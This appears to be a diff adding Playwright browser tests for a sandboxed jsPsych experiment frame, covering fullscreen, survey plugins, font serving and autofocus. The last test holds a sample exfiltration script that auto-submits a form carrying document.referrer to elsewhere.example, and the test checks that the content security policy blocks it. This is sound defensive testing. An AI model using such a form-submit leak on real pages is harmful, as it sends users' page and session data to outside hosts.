@@ -1,0 +1,215 @@
+"""In Chromium: what the sandboxed frame lets a researcher's jsPsych experiment do (issue #36, rows 6, 7, 8 and 12).
+jsPsych's fullscreen plugin really enters full screen; every published major of the SurveyJS plugin renders and
+stores its answer; jsPsych 7.0's Google Fonts import is served by studyhive; a field with the autofocus attribute
+takes the keyboard; and nothing the experiment can read names the session token, nor can a form carry anything
+elsewhere.
+
+Each page starts with PROBE, which notes every Content-Security-Policy violation and every message the frame gets,
+so a test can tell "the policy refused this" from "nothing happened"."""
+
+from __future__ import annotations
+
+import json
+import re
+
+import pytest
+from playwright.sync_api import expect
+
+from tests.jspsych_study import jspsych_app
+from tests.test_jspsych_browser import rows_arrive, start
+
+PROBE = """<script>
+  var violations = [];
+  var messages = [];
+  document.addEventListener("securitypolicyviolation", function (e) {
+    violations.push(e.violatedDirective + " " + e.blockedURI);
+  });
+  window.addEventListener("message", function (e) { messages.push(JSON.stringify(e.data)); });
+</script>"""
+
+
+def experiment(tags: list[str], script: str) -> str:
+    """A page as jsPsych's documentation writes one: the probe, CDN tags in the head, the experiment's script."""
+    head = "\n  ".join([PROBE, *tags])
+    return (
+        f"<!DOCTYPE html>\n<html>\n<head>\n  {head}\n</head>\n<body></body>\n<script>\n{script}\n</script>\n</html>\n"
+    )
+
+
+def unpkg(path: str) -> str:
+    if path.endswith(".css"):
+        return f'<link rel="stylesheet" href="https://unpkg.com/{path}">'
+    return f'<script src="https://unpkg.com/{path}"></script>'
+
+
+@pytest.fixture
+def app(request, tmp_path):
+    """The app the test names with @served."""
+    folders, studies = request.param
+    with jspsych_app(tmp_path, folders=folders, **studies) as app:
+        yield app
+
+
+def served(folders: tuple[str, ...], studies: dict[str, tuple[str, int]]):
+    """The test's `app`: the fake registry's node_modules folders, and slug → (HTML, min_rows)."""
+    return pytest.mark.parametrize("app", [(folders, studies)], indirect=True, ids=["-".join(studies)])
+
+
+def violations(page) -> list[str]:
+    return frame_of(page).evaluate("violations")
+
+
+def frame_of(page):
+    return next(f for f in page.frames if "/x/1/experiment.html" in f.url)
+
+
+def open_sans_loads(page) -> bool:
+    """Whether the frame's stylesheets declare Open Sans and its regular face loads (from this server: the tests
+    refuse other hosts and the frame's policy refuses them too)."""
+    return frame_of(page).evaluate(
+        "document.fonts.load('16px \"Open Sans\"').then((faces) => faces.length > 0 && "
+        "faces.every((face) => face.status === 'loaded'))"
+    )
+
+
+def only_this_server(page, live_server) -> list[str]:
+    """Abort every request to another host; the list of those asked for."""
+    asked = []
+
+    def route(route):
+        if route.request.url.startswith(live_server):
+            route.continue_()
+        else:
+            asked.append(route.request.url)
+            route.abort()
+
+    page.route("**/*", route)
+    return asked
+
+
+# Row 6: the fullscreen plugin of jsPsych 7 (1.x) and of jsPsych 8 (2.x), the trial the whole timeline.
+FULLSCREEN = "var jsPsych = initJsPsych();\njsPsych.run([{type: jsPsychFullscreen, fullscreen_mode: true}]);"
+FULLSCREEN_STUDIES = {
+    "full7": experiment([unpkg("jspsych@7.3.4"), unpkg("@jspsych/plugin-fullscreen@1")], FULLSCREEN),
+    "full8": experiment([unpkg("jspsych@8"), unpkg("@jspsych/plugin-fullscreen@2")], FULLSCREEN),
+}
+
+
+@served(
+    ("jspsych", "jspsych7", "plugin-fullscreen-1", "plugin-fullscreen-2"),
+    {slug: (html, 1) for slug, html in FULLSCREEN_STUDIES.items()},
+)
+def test_fullscreen_plugin_enters_full_screen(page, live_server, app):
+    for slug in FULLSCREEN_STUDIES:
+        token = start(page, live_server, slug)
+        frame = page.frame_locator("#studyhive-experiment")
+        frame.get_by_role("button", name="Continue").click()
+        expect(page.get_by_role("button", name="Continue")).to_be_visible()  # the timeline ended
+        assert frame_of(page).evaluate("document.fullscreenElement === document.documentElement"), slug
+        assert [row["success"] for row in rows_arrive(token, 1)] == [True]
+        assert violations(page) == []
+
+
+# Row 7: each published major of @jspsych/plugin-survey with the stylesheet its documentation names: 1.x (jsPsych 7)
+# and 2.x build SurveyJS's knockout UI, which compiles its bindings with `new Function`; 4.x does not.
+SURVEY = """var jsPsych = initJsPsych();
+jsPsych.run([{type: jsPsychSurvey, survey_json: {
+  showQuestionNumbers: false, elements: [{type: "text", name: "colour", title: "Your favourite colour?"}]}}]);"""
+SURVEY_STUDIES = {
+    "survey1": [
+        unpkg("jspsych@7.3.4"),
+        unpkg("@jspsych/plugin-survey@1"),
+        unpkg("@jspsych/plugin-survey@1/css/survey.css"),
+    ],
+    "survey2": [
+        unpkg("jspsych@8"),
+        unpkg("@jspsych/plugin-survey@2"),
+        unpkg("@jspsych/plugin-survey@2/css/survey.css"),
+    ],
+    "survey4": [
+        unpkg("jspsych@8"),
+        unpkg("@jspsych/plugin-survey@4"),
+        unpkg("@jspsych/plugin-survey@4/css/survey.min.css"),
+    ],
+}
+
+
+@served(
+    ("jspsych", "jspsych7", "plugin-survey-1", "plugin-survey-2", "plugin-survey-4", "@fontsource/open-sans"),
+    {slug: (experiment(tags, SURVEY), 1) for slug, tags in SURVEY_STUDIES.items()},
+)
+def test_every_survey_plugin_major_runs(page, live_server, app):
+    asked = only_this_server(page, live_server)
+    for slug in SURVEY_STUDIES:
+        token = start(page, live_server, slug)
+        frame = page.frame_locator("#studyhive-experiment")
+        frame.get_by_role("textbox").fill("teal")
+        # the theme's stylesheet is served and applies
+        theme_font = "getComputedStyle(document.querySelector('.sd-root-modern')).fontFamily"
+        assert "Open Sans" in frame_of(page).evaluate(theme_font), slug
+        frame.get_by_role("textbox").press("Enter")  # would submit SurveyJS's form: the survey must stay
+        frame.get_by_role("button", name=re.compile("Complete|Finish")).click()
+        expect(page.get_by_role("button", name="Continue")).to_be_visible()
+        assert rows_arrive(token, 1)[0]["response"] == {"colour": "teal"}, slug
+        # it names Open Sans on Google's servers: served here instead
+        assert open_sans_loads(page), slug
+        # SurveyJS 1.x's inline onsubmit="return false;" is refused (the runtime stops form submissions instead)
+        assert [v for v in violations(page) if v != "script-src-attr inline"] == [], slug
+    assert asked == []
+
+
+# Row 8: jsPsych 7.0's stylesheet starts with Google Fonts' @import of Open Sans.
+FONTS7 = experiment(
+    [unpkg("jspsych@7.0.0"), unpkg("@jspsych/plugin-survey-text@1"), unpkg("jspsych@7.0.0/css/jspsych.css")],
+    """var jsPsych = initJsPsych();
+jsPsych.run([{type: jsPsychSurveyText, questions: [{prompt: "Your name?"}]}]);""",
+)
+
+
+@served(("jspsych70", "plugin-survey-text-1", "@fontsource/open-sans"), {"fonts7": (FONTS7, 1)})
+def test_jspsych7_fonts_are_served_here(page, live_server, app):
+    asked = only_this_server(page, live_server)
+    token = start(page, live_server, "fonts7")
+    frame = page.frame_locator("#studyhive-experiment")
+    frame.get_by_role("textbox").fill("Ada")
+    frame.get_by_role("button", name="Continue").click()
+    expect(page.get_by_role("button", name="Continue")).to_be_visible()
+    assert rows_arrive(token, 1)[0]["response"] == {"Q0": "Ada"}
+    experiment_frame = frame_of(page)
+    assert experiment_frame.evaluate("jsPsych.version()") == "7.0.0"
+    assert open_sans_loads(page)
+    assert violations(page) == [] and asked == []
+
+
+# Row 12: a survey-html-form (its submit event must still fire) whose field has the autofocus attribute (row 8:
+# Chromium ignores it in a cross-origin frame), then a form that would send what the experiment knows elsewhere.
+LEAK = experiment(
+    [unpkg("jspsych@8"), unpkg("@jspsych/plugin-survey-html-form@2"), unpkg("@jspsych/plugin-html-button-response@2")],
+    """var jsPsych = initJsPsych();
+var leak = "<form id='leak' action='https://elsewhere.example/collect' method='get'>" +
+  "<input name='what' value='" + encodeURIComponent(document.referrer) + "'></form>";
+jsPsych.run([
+  {type: jsPsychSurveyHtmlForm, button_label: "Send",
+   html: "<p><label>Colour <input name='colour' autofocus></label></p>"},
+  {type: jsPsychHtmlButtonResponse, stimulus: leak, choices: ["Never"],
+   on_load: function () { document.getElementById("leak").submit(); }},  // submit() fires no submit event
+]);""",
+)
+
+
+@served(("jspsych", "@jspsych/plugin-survey-html-form", "@jspsych/plugin-html-button-response"), {"leak": (LEAK, 1)})
+def test_autofocus_works_and_the_frame_knows_no_token_and_sends_no_form_elsewhere(page, live_server, app):
+    asked = only_this_server(page, live_server)
+    token = start(page, live_server, "leak")
+    frame = page.frame_locator("#studyhive-experiment")
+    expect(frame.get_by_label("Colour")).to_be_visible()
+    known = frame_of(page).evaluate(
+        "JSON.stringify([document.referrer, window.name, location.href, document.URL, messages])"
+    )
+    assert token not in known
+    assert json.loads(known)[0] in ("", live_server + "/")  # at most the origin, never the session's page
+    page.keyboard.type("teal")  # where the keyboard is: into the field, as on any host, without clicking it first
+    with page.expect_console_message(lambda message: "form-action" in message.text):  # the policy refused it
+        frame.get_by_role("button", name="Send").click()
+    assert asked == []
+    assert rows_arrive(token, 1)[0]["response"] == {"colour": "teal"}
